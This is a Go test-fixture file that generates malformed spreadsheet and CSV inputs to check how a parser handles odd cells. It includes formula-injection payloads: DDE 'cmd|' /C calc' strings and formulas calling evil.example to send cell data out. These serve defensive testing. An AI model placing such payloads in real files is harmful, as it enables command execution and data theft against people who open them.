package hostile

import (
	"fmt"
	"io"
	"strings"
)

// cellDiseases are workbooks whose cells are odd: mostly they are read as they stand.
var cellDiseases = []disease{
	{name: "缺共享文字.xlsx", want: unreadable, make: func(p *Patient, w io.Writer) error {
		b := p.book()
		b.shared, b.drop = "<sst/>", "xl/sharedStrings.xml"
		return zipTo(w, b.parts()...)
	}},
	{name: "共享文字编号超界.xlsx", want: unreadable, make: extraRow(`<row r="20"><c r="A20" t="s"><v>99999</v></c></row>`)},
	{name: "共享文字编号溢出.xlsx", want: unreadable, make: extraRow(`<row r="20"><c r="A20" t="s"><v>99999999999999999999</v></c></row>`)},
	{name: "格式编号超界.xlsx", want: unreadable, make: extraRow(`<row r="20"><c r="A20" s="70000"><v>1</v></c></row>`)},
	{name: "类型不认识.xlsx", want: unreadable, make: extraRow(`<row r="20"><c r="A20" t="zz"><v>1</v></c></row>`)},
	{name: "数值不是数.xlsx", want: unreadable, make: extraRow(`<row r="20"><c r="A20"><v>NaN</v></c><c r="B20"><v>Inf</v></c></row>`)},
	{name: "数值极大.xlsx", want: read, make: beside(`<v>1e308</v>`)},
	{name: "日期极远.xlsx", want: read, make: besideStyled(`<v>9e15</v>`)},
	{name: "日期为负.xlsx", want: read, make: besideStyled(`<v>-700000</v>`)},
	{name: "公式循环.xlsx", want: read, make: beside(`<f>F4+1</f><v>1</v>`)},
	{name: "公式没有结果.xlsx", want: read.with("formula-without-value"), make: beside(`<f>SUM(A1:A3)</f>`)},
	{name: "共享公式没有主人.xlsx", want: read, make: beside(`<f t="shared" si="99"/><v>1</v>`)},
	{name: "共享公式互指.xlsx", want: read.with("formula-without-value"), make: beside(`<f t="shared" si="4294967295" ref="A1:XFD1048576">F4</f>`)},
	{name: "公式一百万字.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		return beside(`<f>`+strings.Repeat("1+", p.size.of(50_000, 500_000))+`1</f><v>1</v>`)(p, w)
	}},
	{name: "动态交换.xlsx", want: read, make: beside(`<f>cmd|'/C calc'!A0</f><v>0</v>`)},
	{name: "错误值.xlsx", want: read, make: beside(`<v>#REF!</v>`, ` t="e"`)},
	{name: "四万字的格.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says(strings.Repeat("做了许多事情，", 5720))
		return plain(p, w)
	}},
	{name: "四万个表情.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says("做了" + strings.Repeat("🎉", 20_001) + "件")
		return plain(p, w)
	}},
	{name: "格里九百千字节.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says(strings.Repeat("很长的事", p.size.of(5_000, 75_000)))
		return plain(p, w)
	}},
	{name: "格里一兆半.xlsx", want: tooLarge, make: func(p *Patient, w io.Writer) error {
		p.says(strings.Repeat("长", 500_000))
		return plain(p, w)
	}},
	{name: "五千行的格.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says("做了" + strings.Repeat("一件\n", 5000) + "完")
		return plain(p, w)
	}},
	{name: "千层组合字符.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says("做了一" + strings.Repeat("\u0301", 5000) + "件事")
		return plain(p, w)
	}},
	{name: "格里一百万截.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		return extraCell(`<r><t>a</t></r>`, p.size.of(10_000, 1_000_000))(p, w)
	}},
	{name: "注释隔断的格.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		return extraCell(`<t>`+strings.Repeat(`a<!---->`, p.size.of(10_000, 1_000_000))+`</t>`, 1)(p, w)
	}},
	{name: "反向文字.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		p.says("做了\u202E件三\u202C事")
		return plain(p, w)
	}},
	{name: "终端控制.xlsx", want: read.or("unreadable-file"), make: func(p *Patient, w io.Writer) error {
		p.Rows[0].Progress = "做了三件"
		b := p.book()
		b.sheets[0].add(`<row r="20"><c r="B20" t="inlineStr"><is><t>_x001B_[2J_x0007_没有这条</t></is></c><c r="C20" t="inlineStr"><is><t>_x001B_]0;x_x0007_</t></is></c></row>`)
		return zipTo(w, b.parts()...)
	}},
	{name: "公式注入.xlsx", many: [2]int{len(injections), len(injections)}, want: read, make: func(p *Patient, w io.Writer) error {
		p.says(injections[p.n])
		b := p.book()
		// It stands where nothing is expected too: in a row that is held, and beside the table.
		b.sheets[0].add(rowOf(20, "9", injections[p.n]+"不在清单里的一项工作", injections[p.n], "推进中", injections[p.n]))
		return zipTo(w, b.parts()...)
	}},
	{name: "公式注入.csv", many: [2]int{len(injections), len(injections)}, want: read, make: func(p *Patient, w io.Writer) error {
		p.says(injections[p.n])
		return text(w, p.csv())
	}},
	{name: "部门名是公式.csv", want: named("department-unknown"), make: func(p *Patient, w io.Writer) error {
		return text(w, strings.ReplaceAll(p.csv(), p.department, "=cmd|' /C calc'!A0"))
	}},
	{name: "成片的没有这条.xlsx", want: read, make: func(p *Patient, w io.Writer) error {
		b := p.book()
		rows := b.sheets[0].rows
		b.sheets[0].rows = func(w io.Writer) {
			rows(w)
			for i := range p.size.of(50, 19_000) {
				io.WriteString(w, rowOf(i+20, "", fmt.Sprintf("没有的工作%d号", i), "做了", "推进中"))
			}
		}
		return zipTo(w, b.parts()...)
	}},
}

// injections are texts that a spreadsheet would take for formulas.
var injections = []string{
	"=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", `=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
	`=WEBSERVICE("http://evil.example/")`, "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "＝1+1", "'=1+1", `"=1+1"`, "%0A=1+1", "=1+1\n=2+2", "{=1+1}", "=1+1\";=1+1",
}

// extraCell puts a cell of many pieces beside the table.
func extraCell(piece string, n int) func(*Patient, io.Writer) error {
	return sick(func(_ *Patient, s *sheet) {
		before := s.rows
		s.rows = func(w io.Writer) {
			before(w)
			io.WriteString(w, `<row r="19"><c r="H19" t="inlineStr"><is>`)
			repeat(w, piece, n)
			io.WriteString(w, `</is></c></row>`)
		}
	})
}

// beside puts a cell to the right of the first answer, outside the table.
func beside(inner string, attrs ...string) func(*Patient, io.Writer) error {
	return sick(func(p *Patient, s *sheet) {
		s.add(`<row r="19"><c r="H19"` + strings.Join(attrs, "") + `>` + inner + `</c></row>`)
	})
}

func besideStyled(inner string) func(*Patient, io.Writer) error { return beside(inner, ` s="1"`) }
